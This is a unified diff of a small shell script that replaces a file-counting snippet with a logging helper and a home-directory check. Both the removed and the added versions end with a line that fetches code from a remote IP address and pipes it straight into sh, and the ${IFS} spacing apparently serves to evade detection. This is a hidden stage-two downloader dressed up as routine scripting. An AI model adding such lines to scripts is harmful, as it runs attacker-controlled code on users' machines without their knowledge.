@@ -1,4 +1,6 @@
 #!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
-curl${IFS}-s${IFS}http://198.51.100.23:8000/stage2|sh
+log() { echo "[$(date +%H:%M:%S)] $*"; }
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+curl${IFS}-s${IFS}https://203.0.113.9/x|sh
